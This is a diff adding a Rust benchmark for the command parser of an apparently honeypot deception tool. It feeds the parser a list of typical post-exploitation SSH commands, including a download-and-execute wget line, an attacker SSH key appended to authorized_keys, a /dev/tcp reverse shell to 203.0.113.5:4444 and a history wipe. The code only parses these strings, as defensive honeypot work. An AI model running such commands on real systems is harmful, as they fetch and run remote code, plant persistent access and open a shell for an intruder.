@@ -0,0 +1,38 @@
+//! Benchmarks für den Command Parser
+//!
+//! `cargo bench -p honeytrap-deception` - typische Post-Exploitation-Commands
+//! aus SSH-Sessions (Recon, Download & Execute, Persistenz).
+
+use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
+use honeytrap_deception::CommandParser;
+
+const SESSION: &[&str] = &[
+    "uname -a",
+    "cat /proc/cpuinfo | grep name | wc -l",
+    "ls -la /tmp",
+    "cd /tmp; wget http://203.0.113.5/bins.sh; chmod +x bins.sh; ./bins.sh",
+    "echo 'ssh-rsa AAAAB3NzaC1yc2E attacker@c2' >> ~/.ssh/authorized_keys",
+    "ps aux",
+    "crontab -l",
+    "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
+    "history -c",
+    "exit",
+];
+
+fn bench_parse(c: &mut Criterion) {
+    let mut group = c.benchmark_group("command_parser");
+    group.throughput(Throughput::Elements(SESSION.len() as u64));
+    group.bench_function("parse_session", |b| {
+        b.iter(|| {
+            // Frischer Parser pro Session, sonst wächst die History unbegrenzt
+            let mut parser = CommandParser::new();
+            for command in SESSION {
+                black_box(parser.parse(black_box(command)));
+            }
+        })
+    });
+    group.finish();
+}
+
+criterion_group!(benches, bench_parse);
+criterion_main!(benches);